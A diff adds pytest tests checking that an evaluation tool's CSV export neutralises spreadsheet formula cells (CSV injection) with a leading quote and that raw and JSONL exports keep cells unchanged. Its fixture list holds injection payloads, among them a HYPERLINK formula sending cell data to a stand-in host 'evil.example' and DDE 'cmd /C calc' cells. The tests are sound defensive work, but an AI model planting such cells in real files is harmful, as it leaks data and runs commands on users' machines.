@@ -182,3 +182,69 @@ def test_eee_each_instance_carries_its_own_samples_answer(tmp_path) -> None:
         assert record["output"]["raw"] == ["-".join([variant, record["sample_id"], str(repeat)])]
         assert record["performance"]["latency_ms"] == latency[key]
         assert record["evaluation"]["is_correct"] == (repeat != 1)
+
+
+#: Cells a spreadsheet would run (OWASP "CSV Injection"), and two it would not.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+PLAIN = ["a = b", "'quoted already"]
+
+
+def _formula_run(tmp_path: Path) -> Path:
+    answers = FORMULAS + PLAIN
+    rows = [
+        {"case_id": f"=case{i}" if i == 0 else f"c{i}", "variant": "v", "repeat": 0, "answer": a}
+        for i, a in enumerate(answers)
+    ]
+    for row in rows:
+        row["checks"] = {"ok": True}
+    return write_run(tmp_path / "run", rows, cases=[{"id": r["case_id"]} for r in rows])
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_in_front(tmp_path) -> None:
+    run_dir = _formula_run(tmp_path)
+    out = tmp_path / "rows.csv"
+    assert main(["export", str(run_dir), "--format", "csv", "--out", str(out)]) == 0
+    rows = _csv_rows(out)
+    answers = {r["case_id"].lstrip("'"): r["answer"] for r in rows}
+    expected = [f"'{a}" for a in FORMULAS] + PLAIN  # the plain ones are left as they are
+    assert [answers["=case0"], *(answers[f"c{i}"] for i in range(1, 9))] == expected
+    assert rows[0]["case_id"] == "'=case0"  # case ids come from other people too
+    assert {r["repeat"] for r in rows} == {"0"} and {r["check:ok"] for r in rows} == {"True"}
+
+
+def test_raw_csv_and_jsonl_keep_every_cell_as_it_is(tmp_path) -> None:
+    run_dir = _formula_run(tmp_path)
+    out = tmp_path / "raw.csv"
+    assert main(["export", str(run_dir), "--format", "csv", "--raw", "--out", str(out)]) == 0
+    assert sorted(r["answer"] for r in _csv_rows(out)) == sorted(FORMULAS + PLAIN)
+    evalnb.interop.export_samples(run_dir, tmp_path / "python.csv", raw=True)
+    assert sorted(r["answer"] for r in _csv_rows(tmp_path / "python.csv")) == sorted(
+        FORMULAS + PLAIN
+    )
+    assert (
+        main(["export", str(run_dir), "--format", "jsonl", "--out", str(tmp_path / "r.jsonl")]) == 0
+    )
+    lines = (tmp_path / "r.jsonl").read_text().splitlines()
+    assert sorted(json.loads(line)["answer"] for line in lines) == sorted(FORMULAS + PLAIN)
+
+
+def test_raw_applies_to_csv_only(tmp_path, capsys) -> None:
+    run_dir = _formula_run(tmp_path)
+    argv = ["export", str(run_dir), "--format", "jsonl", "--raw", "--out", str(tmp_path / "x")]
+    assert main(argv) == 2
+    assert "--raw applies to the csv format only" in capsys.readouterr().err
